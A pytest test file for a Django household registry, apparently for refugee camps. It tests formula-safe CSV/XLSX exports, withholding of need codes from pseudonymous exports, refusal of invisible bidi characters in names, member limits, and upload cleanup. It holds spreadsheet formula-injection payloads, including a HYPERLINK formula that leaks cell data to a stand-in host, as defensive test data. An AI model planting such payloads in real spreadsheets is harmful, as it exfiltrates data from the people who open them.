"""Exports that cannot carry a live formula, pseudonymous exports without need codes, names
without invisible characters, the member limit on the form, and uploads that cannot 500 and do
not linger."""

import csv
import datetime as dt
import io
import os
import time
import zipfile

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from mawa.core.spreadsheets import csv_writer, write_csv, write_xlsx
from mawa.registry import services, uploads
from mawa.registry.forms import MemberForm
from mawa.registry.models import Household, ImportJob, SpecificNeed
from mawa.registry.tables import TableError, read_table
from tests.conftest import PASSWORD, login, member
from tests.registry.test_exchange import GOOD_ROWS, csv_bytes, upload
from tests.test_api import payload, token_for

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
COLUMNS = [("name", "#name"), ("count", "#x")]


def test_one_writer_neutralises_formulas_in_csv_and_xlsx_and_leaves_numbers_alone():
    rows = [{"name": value, "count": -5} for value in [*HOSTILE, "حسين", "O'Neil"]]
    text = write_csv(COLUMNS, rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[2:]
    assert [r[0] for r in read] == [*("'" + v for v in HOSTILE), "حسين", "O'Neil"]
    assert {r[1] for r in read} == {"-5"}

    def cell(name, value):
        return value if name == "count" else str(value)

    book = load_workbook(io.BytesIO(write_xlsx(COLUMNS, rows, cell=cell)))
    cells = list(book.active.iter_rows(min_row=3))
    expected = ["'" + v.replace("\r", "\n") for v in HOSTILE]  # XML reads CR back as LF
    assert [c[0].value for c in cells[: len(HOSTILE)]] == expected
    assert all(c[0].data_type == "s" for c in cells) and {c[1].value for c in cells} == {-5}

    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1", 3])
    assert buffer.getvalue().strip() == "'=1+1,3"


@pytest.mark.django_db
def test_a_formula_typed_as_a_name_is_exported_as_text(users, camp_a):
    services.household_register(
        actor=users["mona"],
        site=camp_a,
        members=[member(given_name_lat=HOSTILE[0], given_name_ar="")],
        arrival_date=dt.date(2017, 1, 1),
        consent_date=dt.date(2017, 1, 1),
        consent_purposes=["assistance"],
    )
    client = login(users["mona"])
    for fmt in ("csv", "xlsx"):
        url = reverse("registry:export_download", args=["people", fmt]) + "?identified=1"
        content = client.get(url).content
        if fmt == "csv":
            values = [
                c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row
            ]
        else:
            values = [c for row in load_workbook(io.BytesIO(content)).active.values for c in row]
        assert "'" + HOSTILE[0] in values and HOSTILE[0] not in values


@pytest.mark.django_db
def test_pseudonymous_exports_carry_no_specific_need_codes(users, family_a):
    son = family_a.members.get(relationship="son")
    SpecificNeed.objects.create(person=son, code=SpecificNeed.Code.values[0])
    client = login(users["mona"])
    text = client.get(reverse("registry:export_download", args=["people", "csv"])).content
    header = text.decode("utf-8-sig").splitlines()[0]
    assert "specific_needs" not in header and SpecificNeed.Code.values[0] not in text.decode()
    url = reverse("registry:export_download", args=["people", "csv"]) + "?identified=1"
    identified = client.get(url).content.decode("utf-8-sig")
    assert "specific_needs" in identified and SpecificNeed.Code.values[0] in identified


@pytest.mark.parametrize(
    "invisible", ["\u202e", "\u202d", "\u2066", "\u200f", "\u200b", "\u200d", "\ufeff", "\u061c"]
)
def test_names_with_direction_overrides_or_zero_width_characters_are_refused(invisible):
    data = {"relationship": "head", "sex": "M", "given_name_lat": f"Ali{invisible}Hassan"}
    form = MemberForm(data)
    assert not form.is_valid() and "invisible" in str(form.errors["given_name_lat"])
    form = MemberForm({**data, "given_name_lat": "", "given_name_ar": f"حسين{invisible}"})
    assert not form.is_valid() and "invisible" in str(form.errors["given_name_ar"])
    assert MemberForm({**data, "given_name_lat": "Ali Hassan"}).is_valid()


@pytest.mark.django_db
def test_the_api_refuses_an_invisible_override_in_a_name(client, users, camp_a, areas):
    body = payload(camp_a)
    body["members"][0]["given_name_ar"] = "فاطمة\u202e"
    response = client.post(
        "/api/v1/households", body, content_type="application/json", **token_for(users["alice"])
    )
    assert response.status_code == 422 and "members[0].given_name_ar" in response.json()["errors"]


@pytest.mark.django_db
def test_the_registration_form_enforces_the_household_member_limit(users, camp_a):
    count = Household.MAX_MEMBERS + 1
    data = {
        "site": camp_a.pk,
        "arrival_date": "2017-01-01",
        "consent_date": "2017-01-01",
        "consent_purposes": ["assistance"],
        "m-TOTAL_FORMS": count,
        "m-INITIAL_FORMS": 0,
        "m-MIN_NUM_FORMS": 1,
        "m-MAX_NUM_FORMS": Household.MAX_MEMBERS,
    }
    for i in range(count):
        data |= {
            f"m-{i}-relationship": "head" if i == 0 else "son",
            f"m-{i}-sex": "M",
            f"m-{i}-given_name_ar": "حسين",
        }
    response = login(users["alice"]).post(reverse("registry:household_register"), data)
    assert response.status_code == 200 and not Household.objects.exists()
    with pytest.raises(services.RegistryError):
        services.household_register(
            actor=users["alice"],
            site=camp_a,
            members=[member()] + [member("son") for _ in range(count - 1)],
            arrival_date=dt.date(2017, 1, 1),
            consent_date=dt.date(2017, 1, 1),
            consent_purposes=["assistance"],
        )


def _broken_sheet() -> bytes:
    book, buffer = Workbook(), io.BytesIO()
    book.active.append(["a", "b"])
    book.save(buffer)
    damaged = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(damaged, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = b"<worksheet><sheetData><row><c r='A1' t='n'><v>x"
            target.writestr(item, data)
    return damaged.getvalue()


@pytest.mark.parametrize(
    "name,content",
    [("bom.csv", b"\xef\xbb\xbfname\n\xff\xfe\xfa"), ("sheet.xlsx", _broken_sheet())],
)
def test_a_bom_before_invalid_bytes_or_a_damaged_sheet_is_a_clear_error(name, content):
    with pytest.raises(TableError):
        read_table(name, content)


@pytest.mark.django_db
def test_the_upload_page_answers_a_bad_file_with_a_message_not_a_500(users, camp_a):
    response = upload(login(users["mona"]), camp_a, _broken_sheet(), name="sheet.xlsx")
    assert response.status_code == 200 and response.context["form"].errors["file"]


@pytest.mark.django_db
def test_unconfirmed_uploads_are_deleted_after_a_day_and_kept_out_of_the_web_root(
    users, camp_a, settings
):
    client = login(users["mona"])
    upload(client, camp_a, csv_bytes(GOOD_ROWS))
    job = ImportJob.objects.get()
    path = uploads.upload_dir() / os.path.basename(job.stored_as)
    assert path.exists() and settings.STATIC_ROOT not in path.parents
    assert (path.stat().st_mode & 0o077) == 0  # readable by the server's account only
    # a day later, the next upload (or `mawa purge_uploads`) deletes it and its job
    ImportJob.objects.filter(pk=job.pk).update(created_at=timezone.now() - dt.timedelta(days=2))
    stray = uploads.upload_dir() / "left-behind.upload"
    stray.write_bytes(b"x")
    old = time.time() - 2 * 86400
    os.utime(stray, (old, old))
    out = io.StringIO()
    call_command("purge_uploads", stdout=out)
    assert "2 unconfirmed" in out.getvalue()
    assert not path.exists() and not stray.exists() and not ImportJob.objects.exists()
    # a confirmed import's file goes at once
    location = upload(client, camp_a, csv_bytes(GOOD_ROWS))["Location"]
    job = ImportJob.objects.get()
    client.post(location, {"action": "import_all"})
    assert not os.path.exists(job.stored_as)


@pytest.mark.django_db
def test_demo_refuses_a_database_with_real_households(family_a):
    with pytest.raises(CommandError, match="not made by the demo"):
        call_command("demo", households=5, stdout=io.StringIO())
    assert PASSWORD  # the fixture users keep their own passwords; no demo user was added
    from mawa.core.models import User

    assert not User.objects.filter(username="clerk").exists()
